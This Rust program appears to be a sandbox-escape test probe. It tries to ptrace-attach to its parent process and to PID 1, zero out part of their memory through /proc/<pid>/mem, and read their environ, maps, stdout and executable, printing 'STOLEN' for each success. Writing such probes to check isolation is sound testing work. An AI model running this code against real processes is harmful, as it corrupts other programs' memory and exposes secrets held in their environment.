//! Tries: to take its checker over, as a debugger does, or through its memory.

use std::fs::{self, OpenOptions};
use std::os::unix::fs::FileExt;

use nix::libc;
use nix::unistd::getppid;

fn main() {
    for pid in [getppid().as_raw(), 1] {
        // SAFETY: attaches to a process, or fails.
        let done = unsafe { libc::ptrace(libc::PTRACE_ATTACH, pid, 0, 0) };
        if done == 0 {
            println!("STOLEN: attached to {pid}");
        }
        let memory = format!("/proc/{pid}/mem");
        if let Ok(memory) = OpenOptions::new().write(true).open(memory) {
            println!("STOLEN: memory of {pid}");
            let _ = memory.write_at(&[0; 4096], 0x40_0000);
        }
        for file in ["environ", "maps", "fd/1", "exe"] {
            if let Ok(text) = fs::read(format!("/proc/{pid}/{file}")) {
                if !text.is_empty() {
                    println!("STOLEN: {file} of {pid}");
                }
            }
        }
    }
}
